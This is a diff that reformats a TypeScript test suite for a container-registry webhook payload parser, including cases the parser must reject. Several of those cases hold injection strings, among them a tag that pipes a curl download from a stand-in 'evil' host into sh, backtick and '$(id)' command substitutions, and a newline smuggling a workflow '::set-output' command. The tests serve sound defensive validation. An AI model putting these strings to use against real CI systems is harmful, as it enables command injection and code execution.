@@ -8,14 +8,42 @@ const chartDigest = (fixture('native-chart-push.json') as any).target.digest as 
 
 describe('parseEvent: every shape and action', () => {
   test.each([
-    ['native-push.json', { shape: 'native', action: 'push', repository: 'team/web', tag: 'v1.4.2', digest: imageDigest, registry: 'myregistry.azurecr.io', size: 524 }],
+    [
+      'native-push.json',
+      { shape: 'native', action: 'push', repository: 'team/web', tag: 'v1.4.2', digest: imageDigest, registry: 'myregistry.azurecr.io', size: 524 }
+    ],
     ['native-push-by-digest.json', { shape: 'native', action: 'push', repository: 'team/web', tag: undefined, digest: imageDigest }],
-    ['native-delete.json', { shape: 'native', action: 'delete', repository: 'team/web', tag: undefined, digest: imageDigest, size: undefined, registry: 'myregistry.azurecr.io' }],
+    [
+      'native-delete.json',
+      {
+        shape: 'native',
+        action: 'delete',
+        repository: 'team/web',
+        tag: undefined,
+        digest: imageDigest,
+        size: undefined,
+        registry: 'myregistry.azurecr.io'
+      }
+    ],
     ['native-quarantine.json', { shape: 'native', action: 'quarantine', repository: 'team/web', tag: 'v1.4.2', timestamp: '2026-11-17T16:50:00Z' }],
-    ['native-chart-push.json', { shape: 'native', action: 'chart_push', repository: 'repo', tag: 'wordpress-5.4.0.tgz', digest: chartDigest, registry: undefined, chart: { name: 'wordpress', version: '5.4.0.tgz' } }],
+    [
+      'native-chart-push.json',
+      {
+        shape: 'native',
+        action: 'chart_push',
+        repository: 'repo',
+        tag: 'wordpress-5.4.0.tgz',
+        digest: chartDigest,
+        registry: undefined,
+        chart: { name: 'wordpress', version: '5.4.0.tgz' }
+      }
+    ],
     ['native-chart-delete.json', { shape: 'native', action: 'chart_delete', repository: 'repo', chart: { name: 'wordpress', version: '5.4.0.tgz' } }],
     ['native-ping.json', { shape: 'native', action: 'ping', repository: undefined, digest: undefined }],
-    ['eventgrid-push.json', { shape: 'event-grid', action: 'push', repository: 'team/web', tag: 'v1.4.2', digest: imageDigest, registry: 'myregistry.azurecr.io' }],
+    [
+      'eventgrid-push.json',
+      { shape: 'event-grid', action: 'push', repository: 'team/web', tag: 'v1.4.2', digest: imageDigest, registry: 'myregistry.azurecr.io' }
+    ],
     ['eventgrid-delete-batch-of-one.json', { shape: 'event-grid', action: 'delete', repository: 'team/web', digest: imageDigest }],
     ['cloudevents-chart-push.json', { shape: 'cloudevents', action: 'chart_push', repository: 'repo', tag: 'wordpress-5.4.0.tgz' }],
     ['wrapper-push.json', { shape: 'wrapper', action: 'push', repository: 'team/web', tag: 'v1.4.2', registry: 'myregistry.azurecr.io' }]
@@ -65,44 +93,169 @@ function errorOf(payload: unknown, root = 'client_payload'): PayloadError {
 
 describe('parseEvent: refused payloads name the field, the rule and the value', () => {
   test.each([
-    ['shell in a tag', mutated('native-push.json', e => void (e.target.tag = 'v1$(curl${IFS}evil|sh)')), 'client_payload.target.tag', /OCI tag.*got "v1\$\(curl\$\{IFS\}evil\|sh\)"/],
-    ['backticks in a repository', mutated('native-push.json', e => void (e.target.repository = 'team/`id`')), 'client_payload.target.repository', /OCI repository name/],
-    ['uppercase repository', mutated('native-push.json', e => void (e.target.repository = 'Team/Web')), 'client_payload.target.repository', /lowercase/],
-    ['repository of 256 characters', mutated('native-push.json', e => void (e.target.repository = 'a'.repeat(256))), 'client_payload.target.repository', /at most 255/],
-    ['tag of 129 characters', mutated('native-push.json', e => void (e.target.tag = 'v'.repeat(129))), 'client_payload.target.tag', /\(129 characters\)/],
-    ['the documentation placeholder digest', mutated('native-push.json', e => void (e.target.digest = 'sha256:xxxxd5c8786bb9e621a45ece0dbxxxx1cdc624ad20da9fe62e9d25490f33xxxx')), 'client_payload.target.digest', /sha256:<64 hex>/],
-    ['uppercase hex', mutated('native-push.json', e => void (e.target.digest = e.target.digest.toUpperCase())), 'client_payload.target.digest', /lowercase/],
-    ['a digest missing', mutated('native-push.json', e => void delete e.target.digest), 'client_payload.target.digest', /is required for a push event/],
-    ['a repository missing on delete', mutated('native-delete.json', e => void delete e.target.repository), 'client_payload.target.repository', /is required for a delete event/],
+    [
+      'shell in a tag',
+      mutated('native-push.json', e => void (e.target.tag = 'v1$(curl${IFS}evil|sh)')),
+      'client_payload.target.tag',
+      /OCI tag.*got "v1\$\(curl\$\{IFS\}evil\|sh\)"/
+    ],
+    [
+      'backticks in a repository',
+      mutated('native-push.json', e => void (e.target.repository = 'team/`id`')),
+      'client_payload.target.repository',
+      /OCI repository name/
+    ],
+    [
+      'uppercase repository',
+      mutated('native-push.json', e => void (e.target.repository = 'Team/Web')),
+      'client_payload.target.repository',
+      /lowercase/
+    ],
+    [
+      'repository of 256 characters',
+      mutated('native-push.json', e => void (e.target.repository = 'a'.repeat(256))),
+      'client_payload.target.repository',
+      /at most 255/
+    ],
+    [
+      'tag of 129 characters',
+      mutated('native-push.json', e => void (e.target.tag = 'v'.repeat(129))),
+      'client_payload.target.tag',
+      /\(129 characters\)/
+    ],
+    [
+      'the documentation placeholder digest',
+      mutated('native-push.json', e => void (e.target.digest = 'sha256:xxxxd5c8786bb9e621a45ece0dbxxxx1cdc624ad20da9fe62e9d25490f33xxxx')),
+      'client_payload.target.digest',
+      /sha256:<64 hex>/
+    ],
+    [
+      'uppercase hex',
+      mutated('native-push.json', e => void (e.target.digest = e.target.digest.toUpperCase())),
+      'client_payload.target.digest',
+      /lowercase/
+    ],
+    [
+      'a digest missing',
+      mutated('native-push.json', e => void delete e.target.digest),
+      'client_payload.target.digest',
+      /is required for a push event/
+    ],
+    [
+      'a repository missing on delete',
+      mutated('native-delete.json', e => void delete e.target.repository),
+      'client_payload.target.repository',
+      /is required for a delete event/
+    ],
     ['no target', mutated('native-push.json', e => void delete e.target), 'client_payload.target', /is required/],
     ['a number as tag', mutated('native-push.json', e => void (e.target.tag = 1)), 'client_payload.target.tag', /must be a string; got 1/],
-    ['an object as repository', mutated('native-push.json', e => void (e.target.repository = { $ne: '' })), 'client_payload.target.repository', /must be a string; got an object/],
+    [
+      'an object as repository',
+      mutated('native-push.json', e => void (e.target.repository = { $ne: '' })),
+      'client_payload.target.repository',
+      /must be a string; got an object/
+    ],
     ['a negative size', mutated('native-push.json', e => void (e.target.size = -1)), 'client_payload.target.size', /non-negative/],
     ['a fractional size', mutated('native-push.json', e => void (e.target.size = 1.5)), 'client_payload.target.size', /whole number/],
     ['a size beyond 2^53', mutated('native-push.json', e => void (e.target.size = 2 ** 53)), 'client_payload.target.size', /whole number/],
     ['a string size', mutated('native-push.json', e => void (e.target.size = '524')), 'client_payload.target.size', /got "524"/],
-    ['a host with a path', mutated('native-push.json', e => void (e.request.host = 'evil.example/x')), 'client_payload.request.host', /registry host/],
-    ['a media type with parameters', mutated('native-push.json', e => void (e.target.mediaType = 'application/json; x=$(id)')), 'client_payload.target.mediaType', /media type/],
-    ['a timestamp without zone', mutated('native-push.json', e => void (e.timestamp = '2026-11-17T16:52:01')), 'client_payload.timestamp', /RFC 3339/],
-    ['an id with a newline', mutated('native-push.json', e => void (e.id = 'a\n::set-output name=tag::x')), 'client_payload.id', /got "a\\n::set-output/],
-    ['an unknown action', mutated('native-push.json', e => void (e.action = 'pull')), 'client_payload.action', /one of push, delete, quarantine, chart_push, chart_delete, ping; got "pull"/],
+    [
+      'a host with a path',
+      mutated('native-push.json', e => void (e.request.host = 'evil.example/x')),
+      'client_payload.request.host',
+      /registry host/
+    ],
+    [
+      'a media type with parameters',
+      mutated('native-push.json', e => void (e.target.mediaType = 'application/json; x=$(id)')),
+      'client_payload.target.mediaType',
+      /media type/
+    ],
+    [
+      'a timestamp without zone',
+      mutated('native-push.json', e => void (e.timestamp = '2026-11-17T16:52:01')),
+      'client_payload.timestamp',
+      /RFC 3339/
+    ],
+    [
+      'an id with a newline',
+      mutated('native-push.json', e => void (e.id = 'a\n::set-output name=tag::x')),
+      'client_payload.id',
+      /got "a\\n::set-output/
+    ],
+    [
+      'an unknown action',
+      mutated('native-push.json', e => void (e.action = 'pull')),
+      'client_payload.action',
+      /one of push, delete, quarantine, chart_push, chart_delete, ping; got "pull"/
+    ],
     ['no action at all', mutated('native-push.json', e => void delete e.action), 'client_payload.action', /is required/],
-    ['a chart name with a space', mutated('native-chart-push.json', e => void (e.target.name = 'word press')), 'client_payload.target.name', /chart name/],
-    ['a user agent of 1025 characters', mutated('native-push.json', e => void (e.request.useragent = 'u'.repeat(1025))), 'client_payload.request.useragent', /at most 1024/],
+    [
+      'a chart name with a space',
+      mutated('native-chart-push.json', e => void (e.target.name = 'word press')),
+      'client_payload.target.name',
+      /chart name/
+    ],
+    [
+      'a user agent of 1025 characters',
+      mutated('native-push.json', e => void (e.request.useragent = 'u'.repeat(1025))),
+      'client_payload.request.useragent',
+      /at most 1024/
+    ],
     ['a target that is an array', mutated('native-push.json', e => void (e.target = [])), 'client_payload.target', /JSON object; got an array of 0/],
-    ['a batch of two', mutated('eventgrid-delete-batch-of-one.json', e => [(e as any)[0], (e as any)[0]]), 'client_payload', /holds 2 events; send each event as its own dispatch/],
+    [
+      'a batch of two',
+      mutated('eventgrid-delete-batch-of-one.json', e => [(e as any)[0], (e as any)[0]]),
+      'client_payload',
+      /holds 2 events; send each event as its own dispatch/
+    ],
     ['an empty batch', [], 'client_payload', /holds 0 events/],
-    ['a batch inside a batch of one', mutated('eventgrid-delete-batch-of-one.json', e => [e]), 'client_payload[0]', /not an array: a batch holds events, not batches/],
+    [
+      'a batch inside a batch of one',
+      mutated('eventgrid-delete-batch-of-one.json', e => [e]),
+      'client_payload[0]',
+      /not an array: a batch holds events, not batches/
+    ],
     ['a string', 'push', 'client_payload', /must be a JSON object.*got "push"/],
     ['null', null, 'client_payload', /must be a JSON object.*got null/],
     ['an unrelated object', { hello: 'world' }, 'client_payload', /is not an ACR event/],
-    ['an Event Grid type that is not ACR', mutated('eventgrid-push.json', e => void (e.eventType = 'Microsoft.EventGrid.SubscriptionValidationEvent')), 'client_payload.eventType', /must be one of Microsoft.ContainerRegistry.ImagePushed/],
-    ['an Event Grid action that contradicts its type', mutated('eventgrid-push.json', e => void (e.data.action = 'delete')), 'client_payload.data.action', /contradicts client_payload.eventType, which means "push"/],
-    ['a bad tag inside Event Grid data', mutated('eventgrid-push.json', e => void (e.data.target.tag = '$x')), 'client_payload.data.target.tag', /OCI tag/],
-    ['a bad tag inside a batch of one', mutated('eventgrid-delete-batch-of-one.json', e => void ((e as any)[0].data.target.repository = 'A')), 'client_payload[0].data.target.repository', /lowercase/],
-    ['a CloudEvents version 0.3', mutated('cloudevents-chart-push.json', e => void (e.specversion = '0.3')), 'client_payload.specversion', /must be "1.0"/],
+    [
+      'an Event Grid type that is not ACR',
+      mutated('eventgrid-push.json', e => void (e.eventType = 'Microsoft.EventGrid.SubscriptionValidationEvent')),
+      'client_payload.eventType',
+      /must be one of Microsoft.ContainerRegistry.ImagePushed/
+    ],
+    [
+      'an Event Grid action that contradicts its type',
+      mutated('eventgrid-push.json', e => void (e.data.action = 'delete')),
+      'client_payload.data.action',
+      /contradicts client_payload.eventType, which means "push"/
+    ],
+    [
+      'a bad tag inside Event Grid data',
+      mutated('eventgrid-push.json', e => void (e.data.target.tag = '$x')),
+      'client_payload.data.target.tag',
+      /OCI tag/
+    ],
+    [
+      'a bad tag inside a batch of one',
+      mutated('eventgrid-delete-batch-of-one.json', e => void ((e as any)[0].data.target.repository = 'A')),
+      'client_payload[0].data.target.repository',
+      /lowercase/
+    ],
+    [
+      'a CloudEvents version 0.3',
+      mutated('cloudevents-chart-push.json', e => void (e.specversion = '0.3')),
+      'client_payload.specversion',
+      /must be "1.0"/
+    ],
     ['CloudEvents without data', mutated('cloudevents-chart-push.json', e => void delete e.data), 'client_payload.data', /must be a JSON object/],
-    ['a bad digest inside a relay wrapper', mutated('wrapper-push.json', e => void (e.data.target.digest = 'sha256:1')), 'client_payload.data.target.digest', /OCI digest/]
+    [
+      'a bad digest inside a relay wrapper',
+      mutated('wrapper-push.json', e => void (e.data.target.digest = 'sha256:1')),
+      'client_payload.data.target.digest',
+      /OCI digest/
+    ]
   ])('%s', (_name, payload, path, message) => {
     const error = errorOf(payload)
     expect(error.path).toBe(path)
